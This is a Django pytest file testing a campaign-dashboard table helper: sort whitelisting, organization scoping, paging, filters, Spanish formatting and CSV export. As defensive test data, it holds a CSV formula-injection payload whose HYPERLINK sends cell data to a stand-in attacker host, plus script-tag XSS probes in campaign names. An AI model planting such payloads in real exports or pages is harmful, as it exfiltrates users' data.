"""Every list sorts, filters, pages and downloads as CSV through one helper (campaigns/web/tables.py): whitelisted
sort fields, the organization's rows only, formulas neutralised, numbers and dates in the marketer's language."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone, translation

from campaigns.models import BudgetChange, Campaign, DailyMetric, SearchTerm, SearchTermDaily, Suggestion
from campaigns.web import tables
from campaigns.web.campaign_list import CAMPAIGNS
from campaigns.web.search_terms import WASTE
from campaigns.web.tables import COUNT, MONEY, Column, Spec
from tests.campaigns.web.conftest import DAY
from tests.factories import AdGroupFactory, CampaignFactory, KeywordFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Ver")'


def _negative(organization, campaign, text: str, cost_micros: int, clicks: int = 1, **evidence) -> Suggestion:
    return Suggestion.objects.create(
        organization=organization,
        kind="negative",
        level="campaign",
        campaign=campaign,
        text=text,
        match_type="exact",
        source="test",
        evidence={"would_have_blocked": {"terms": [text], "clicks": clicks, "cost_micros": cost_micros}, **evidence},
    )


def _csv(response) -> str:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return response.content.decode()


@pytest.fixture
def many_negatives(organization, account):
    """60 more pending waste negatives, costing 1..60 units; the account's own one costs 3.50."""
    return [_negative(organization, account["campaign"], f"neg {i:02d}", i * 1_000_000, clicks=i) for i in range(1, 61)]


def test_negatives_are_paged_by_50_costliest_first(client, teammate, account, many_negatives):
    client.force_login(teammate)
    response = client.get(reverse("campaigns:search_terms"))
    waste = response.context["waste"]
    assert waste.page.paginator.count == 61
    assert [s.text for s in waste.rows][:3] == ["neg 60", "neg 59", "neg 58"]
    assert len(waste.rows) == 50
    body = response.content.decode()
    assert "61 rows" in body and "Page 1 of 2" in body
    assert 'href="?waste-page=2#pending-negatives" rel="next"' in body
    second = client.get(reverse("campaigns:search_terms"), {"waste-page": 2}).context["waste"]
    assert [s.text for s in second.rows] == [f"neg {i:02d}" for i in range(10, 3, -1)] + [
        "gratis",
        "neg 03",
        "neg 02",
        "neg 01",
    ]


def test_a_sortable_header_is_a_link_and_the_sorted_one_says_so(client, teammate, account, many_negatives):
    client.force_login(teammate)
    body = client.get(reverse("campaigns:search_terms")).content.decode()
    # sorted by cost, descending: its link turns it ascending; a text column starts A to Z, numbers biggest first
    assert (
        '<th scope="col" class="num" aria-sort="descending"><a href="?waste-sort=cost#pending-negatives" '
        'class="sort sorted-descending">Would have saved</a></th>'
    ) in body
    assert '<a href="?waste-sort=text#pending-negatives" class="sort">Negative</a>' in body
    assert '<a href="?waste-sort=-clicks#pending-negatives" class="sort">Clicks</a>' in body
    assert '<th scope="col">Where</th>' in body  # not sortable: plain text
    ascending = client.get(reverse("campaigns:search_terms"), {"waste-sort": "cost"}).context["waste"]
    assert [s.text for s in ascending.rows][:4] == ["neg 01", "neg 02", "neg 03", "gratis"]


@pytest.mark.parametrize("sort", ["organization__name", "evidence", "-password", "pk", "", "where"])
def test_a_sort_outside_the_whitelist_falls_back_to_the_default(client, teammate, account, many_negatives, sort):
    client.force_login(teammate)
    waste = client.get(reverse("campaigns:search_terms"), {"waste-sort": sort}).context["waste"]
    assert (waste.sort_key, waste.descending) == ("cost", True)
    assert waste.rows[0].text == "neg 60"


def test_the_filter_keeps_matching_rows_and_the_other_tables_state(client, teammate, account, many_negatives):
    client.force_login(teammate)
    response = client.get(reverse("campaigns:search_terms"), {"waste-q": "NEG 1", "terms-sort": "text"})
    waste = response.context["waste"]
    assert [s.text for s in waste.rows] == [f"neg {i}" for i in range(19, 9, -1)]
    body = response.content.decode()
    assert '<input type="hidden" name="terms-sort" value="text">' in body  # the filter form carries it
    assert 'name="waste-q" value="NEG 1"' in body
    assert response.context["terms"].sort_key == "text"


def test_a_page_out_of_range_shows_the_last_one_and_a_non_number_the_first(client, teammate, account, many_negatives):
    client.force_login(teammate)
    numbers = {
        page: client.get(reverse("campaigns:search_terms"), {"waste-page": page}).context["waste"].page.number
        for page in ("99", "-1", "abc", "")
    }
    assert numbers == {"99": 2, "-1": 2, "abc": 1, "": 1}


def test_a_decision_returns_to_the_same_page_and_order(client, teammate, account, many_negatives):
    client.force_login(teammate)
    url = reverse("campaigns:search_terms") + "?waste-page=2&waste-sort=text"
    response = client.post(url, {"one": f"approve:{many_negatives[0].pk}"})
    assert response["Location"] == url


def test_csv_of_the_negatives_holds_every_filtered_row_in_order(client, teammate, account, many_negatives):
    client.force_login(teammate)
    response = client.get(reverse("campaigns:search_terms"), {"waste-format": "csv", "waste-q": "neg 0"})
    assert response["Content-Disposition"] == 'attachment; filename="materiales-test-pending-negatives.csv"'
    lines = _csv(response).splitlines()
    assert lines[0] == ("\ufeffNegative,Match type,Level,Where,Would have blocked,Would have saved (EUR),Clicks")
    assert lines[1:] == [
        f"neg 0{i},Exact,Campaign,Cemento <script>alert(1)</script>,neg 0{i},{i}.00,{i}" for i in range(9, 0, -1)
    ]


def test_csv_neutralises_formulas_in_text_and_leaves_numbers_alone(client, owner, organization):
    campaign = CampaignFactory(organization=organization, name=FORMULA, daily_budget_micros=1_234_560_000)
    DailyMetric.objects.create(
        organization=organization,
        campaign=campaign,
        level="campaign",
        date=DAY,
        impressions=10,
        clicks=2,
        cost_micros=1_500_000,
        conversions=0,
    )
    client.force_login(owner)
    lines = _csv(client.get(reverse("campaigns:campaigns"), {"format": "csv"})).splitlines()
    assert lines[0] == (
        "\ufeffCampaign,Platform,Status,Daily budget (EUR),Monthly cap (EUR),Impressions,Clicks,"
        "Spend (EUR),Conversions,CTR (%),CPC (EUR),CPA (EUR),ROAS"
    )
    # the name gets the apostrophe; the numbers are ours; unknowns (no cap, no CPA) are empty cells, a ROAS of no
    # conversions is a real zero
    assert (
        lines[1] == """"'=HYPERLINK(""https://evil.example/?""&A1,""Ver"")",Google Ads,Enabled,1234.56,,10,2,"""
        """1.50,0.0,20.00,0.75,,0.00"""
    )


def test_csv_in_spanish_uses_semicolons_and_decimal_commas(client, owner, organization, account):
    client.force_login(owner)
    with translation.override("es"):
        client.post(reverse("campaigns:set_language"), {"language": "es", "next": "/"})
    lines = _csv(client.get(reverse("campaigns:campaigns"), {"format": "csv"})).splitlines()
    assert lines[0].startswith("\ufeffCampaña;Plataforma;Estado;Presupuesto diario (EUR);")
    assert (
        lines[1] == "Cemento <script>alert(1)</script>;Google Ads;Activa;40,00;;1000;100;50,00;5,0;10,00;0,50;"
        "10,00;4,00"
    )


def test_the_campaigns_page_lists_this_organization_only(
    client, owner, organization, outsider, other_organization, account
):
    CampaignFactory(organization=other_organization, name="Competidor secreto")
    CampaignFactory(organization=organization, name="Aislamiento")
    client.force_login(owner)
    response = client.get(reverse("campaigns:campaigns"))
    assert [c.name for c in response.context["table"].rows] == ["Cemento <script>alert(1)</script>", "Aislamiento"]
    assert "Competidor secreto" not in response.content.decode()
    by_name = client.get(reverse("campaigns:campaigns"), {"sort": "name"}).context["table"]
    assert [c.name for c in by_name.rows] == ["Aislamiento", "Cemento <script>alert(1)</script>"]


def test_the_helper_scopes_whatever_queryset_it_is_given(rf: RequestFactory, organization, other_organization):
    CampaignFactory(organization=organization, name="Propia")
    CampaignFactory(organization=other_organization, name="Ajena")
    table = tables.bind(
        rf.get("/", {"sort": "name"}),
        CAMPAIGNS,
        Campaign.objects.all(),
        organization,
        lambda rows: [setattr(row, "totals", None) for row in rows],
    )
    assert [c.name for c in table.rows] == ["Propia"]
    _negative(other_organization, CampaignFactory(organization=other_organization), "ajena", 9_000_000)
    waste = tables.bind(rf.get("/", {"waste-q": "ajena"}), WASTE, Suggestion.objects.all(), organization)
    assert list(waste.rows) == []


def test_a_first_page_shorter_than_a_page_is_counted_without_a_count_query(
    rf: RequestFactory, organization, account, many_negatives, django_assert_num_queries
):
    """Up to a page of rows are all of them: one query (the page is read with one row more). More rows than a page
    still ask for the count (two)."""
    pending = Suggestion.objects.filter(kind="negative")
    few = tables.bind(rf.get("/", {"waste-q": "neg 1"}), WASTE, pending, organization)
    with django_assert_num_queries(1):
        assert (len(few.rows), few.page.paginator.count, few.pager["pages"]) == (10, 10, 1)  # neg 10 to neg 19
    full = tables.bind(rf.get("/", {"waste-page": "1"}), WASTE, pending, organization)
    with django_assert_num_queries(2):
        assert (len(full.rows), full.page.paginator.count, full.pager["pages"]) == (50, 61, 2)


def test_a_known_count_reads_no_empty_table_and_pages_without_a_count_query(
    rf: RequestFactory, organization, account, many_negatives, django_assert_num_queries
):
    """The view's count of the rows before the filter: an empty table is not read at all, a long one is paged
    without a COUNT query; a filter sets it aside (the filtered rows are counted as usual)."""
    pending = Suggestion.objects.filter(kind="negative")
    with django_assert_num_queries(0):
        empty = tables.bind(rf.get("/", {"waste-q": "neg"}), WASTE, pending, organization, count=0)
        assert (empty.rows, empty.page.paginator.count, empty.pager["pages"]) == ([], 0, 1)
    second = tables.bind(rf.get("/", {"waste-page": "2"}), WASTE, pending, organization, count=61)
    with django_assert_num_queries(1):
        assert (len(second.rows), second.page.paginator.count, second.pager["pages"]) == (11, 61, 2)
    filtered = tables.bind(rf.get("/", {"waste-q": "neg 1"}), WASTE, pending, organization, count=61)
    with django_assert_num_queries(1):
        assert (len(filtered.rows), filtered.page.paginator.count) == (10, 10)


def test_a_spec_refuses_a_default_sort_or_search_it_cannot_do():
    name = Column("name", "Name", str, order="name")
    with pytest.raises(ValueError, match="default_sort 'cost' is not a column"):
        Spec(name="", caption="T", columns=(name,), default_sort="cost", search=())
    with pytest.raises(ValueError, match="sortable column of a database table needs its order path"):
        Spec(name="", caption="T", columns=(name, Column("cost", "Cost", str, MONEY)), default_sort="name", search=())
    with pytest.raises(ValueError, match="searched column of a database table needs its paths"):
        Spec(
            name="",
            caption="T",
            columns=(name, Column("n", "N", str, COUNT, sortable=False)),
            default_sort="name",
            search=("n",),
        )


def test_ad_groups_and_keywords_sort_and_filter(client, viewer, organization, account):
    campaign, ad_group = account["campaign"], account["ad_group"]
    AdGroupFactory(campaign=campaign, name="Arena fina")
    cheap = KeywordFactory(ad_group=ad_group, text="cemento barato")
    dear = KeywordFactory(ad_group=ad_group, text="cemento rápido")
    KeywordFactory(ad_group=ad_group, text="gratis", negative=True)
    for keyword, cost in ((cheap, 1_000_000), (dear, 9_000_000)):
        DailyMetric.objects.create(
            organization=organization,
            campaign=campaign,
            level="keyword",
            ad_group=ad_group,
            keyword=keyword,
            date=DAY,
            impressions=10,
            clicks=1,
            cost_micros=cost,
        )
    client.force_login(viewer)
    groups = client.get(reverse("campaigns:campaign", args=[campaign.pk])).context["table"]
    assert [g.name for g in groups.rows] == ["Arena fina", "Cemento gris"]
    by_cost = client.get(reverse("campaigns:campaign", args=[campaign.pk]), {"sort": "-cost"}).context["table"]
    assert [g.name for g in by_cost.rows] == ["Cemento gris", "Arena fina"]  # no data sorts last
    keywords = client.get(reverse("campaigns:ad_group", args=[ad_group.pk])).context["table"]
    assert [k.text for k in keywords.rows] == ["cemento rápido", "cemento barato", "gratis"]
    filtered = client.get(reverse("campaigns:ad_group", args=[ad_group.pk]), {"q": "BARATO"}).context["table"]
    assert [k.text for k in filtered.rows] == ["cemento barato"]
    lines = _csv(client.get(reverse("campaigns:ad_group", args=[ad_group.pk]), {"format": "csv", "sort": "text"}))
    assert lines.splitlines()[1:] == [
        "cemento barato,Exact,Enabled,keyword,10,1,1.00,0.0,10.00,1.00,,0.00",
        "cemento rápido,Exact,Enabled,keyword,10,1,9.00,0.0,10.00,9.00,,0.00",
        "gratis,Exact,Enabled,negative,,,,,,,,",
    ]


def test_search_terms_explain_relevance_and_sort_by_cost(client, viewer, organization, account):
    cheap = SearchTerm.objects.create(
        organization=organization, campaign=account["campaign"], ad_group=account["ad_group"], text="cemento blanco"
    )
    SearchTermDaily.objects.create(
        search_term=cheap, campaign=account["campaign"], date=DAY, clicks=1, cost_micros=100_000
    )
    client.force_login(viewer)
    response = client.get(reverse("campaigns:search_terms"))
    assert [t.text for t in response.context["terms"].rows] == ["cemento <b>gratis</b>", "cemento blanco"]
    body = response.content.decode()
    assert 'aria-describedby="search-terms-relevance-help">Relevance</a>' in body
    assert (
        '<p class="muted" id="search-terms-relevance-help"><strong>Relevance</strong>: how close the search term '
        "is to the intent of the ad group it was matched to, from 0 (unrelated) to 1"
    ) in body


@pytest.mark.parametrize("sort", ["-cost", "clicks", "-conversions", "text", "matched", "-relevance"])
def test_search_terms_show_the_same_totals_whatever_the_order(client, viewer, organization, account, sort):
    """Sorted by a total, the totals are summed in one grouped join; sorted otherwise, per term: the same figures
    either way, a term without days unknown (None), a search that joins other tables counting no day twice."""
    campaign, ad_group = account["campaign"], account["ad_group"]
    two_days = SearchTerm.objects.create(
        organization=organization, campaign=campaign, ad_group=ad_group, text="cemento blanco"
    )
    for day, clicks, cost, conversions in [(DAY, 2, 300_000, 1.5), (DAY - timedelta(days=1), 3, 400_000, 0.0)]:
        SearchTermDaily.objects.create(
            search_term=two_days,
            campaign=campaign,
            date=day,
            clicks=clicks,
            cost_micros=cost,
            conversions=conversions,
        )
    SearchTerm.objects.create(organization=organization, campaign=campaign, ad_group=ad_group, text="cemento sin dias")
    client.force_login(viewer)
    for query in ({"terms-sort": sort}, {"terms-sort": sort, "terms-q": "Cemento"}):
        rows = client.get(reverse("campaigns:search_terms"), query).context["terms"].rows
        assert {(t.text, t.clicks, t.cost_micros, t.conversions) for t in rows} == {
            ("cemento <b>gratis</b>", 7, 3_500_000, 0.0),
            ("cemento blanco", 5, 700_000, 1.5),
            ("cemento sin dias", None, None, None),
        }


def test_budget_history_sorts_filters_and_downloads(client, teammate, organization, account):
    other = CampaignFactory(organization=organization, name="Arena")
    for campaign, before, after in ((account["campaign"], 40_000_000, 44_000_000), (other, 10_000_000, 9_000_000)):
        BudgetChange.objects.create(
            organization=organization,
            campaign=campaign,
            plan=account["plan"],
            plan_date=DAY,
            plan_version=1,
            before_micros=before,
            after_micros=after,
            actor="user:ana",
            reasons=["converts"],
        )
    client.force_login(teammate)
    response = client.get(reverse("campaigns:budgets"), {"sort": "-after"})
    assert [c.after_micros for c in response.context["changes"]] == [44_000_000, 9_000_000]
    # Arena's budget is 40.00 now: undoing its 10.00 -> 9.00 would cut 75 % in a day, so no button, and why.
    body = response.content.decode()
    assert body.count(">Roll back</button>") == 1 and "Cannot be rolled back: limited by the largest change" in body
    assert [c.campaign.name for c in client.get(reverse("campaigns:budgets"), {"q": "aren"}).context["changes"]] == [
        "Arena"
    ]
    lines = _csv(client.get(reverse("campaigns:budgets"), {"format": "csv", "sort": "campaign"})).splitlines()
    assert lines[0] == "\ufeffWhen,Campaign,Kind,Before (EUR),After (EUR),Who,Why"
    assert [line.split(",")[1:] for line in lines[1:]] == [
        ["Arena", "Rebalance", "10.00", "9.00", "user:ana", "converts"],
        ["Cemento <script>alert(1)</script>", "Rebalance", "40.00", "44.00", "user:ana", "converts"],
    ]


def test_a_spanish_page_writes_numbers_and_dates_the_spanish_way(client, owner, organization, account):
    account["campaign"].daily_budget_micros = 4_067_710_000
    account["campaign"].save()
    change = BudgetChange.objects.create(
        organization=organization,
        campaign=account["campaign"],
        plan=account["plan"],
        plan_date=DAY,
        plan_version=1,
        before_micros=4_067_710_000,
        after_micros=1_000_000,
        actor="user:ana",
    )
    client.force_login(owner)
    client.post(reverse("campaigns:set_language"), {"language": "es", "next": "/"})
    body = client.get(reverse("campaigns:campaigns")).content.decode()
    assert "4\xa0067,71 EUR" in body and "Del 09/02/2025 al 10/03/2025" in body
    history = client.get(reverse("campaigns:budgets")).content.decode()
    assert f"<td>{timezone.localtime(change.created_at):%d/%m/%Y %H:%M}</td>" in history  # one format: d/m/Y
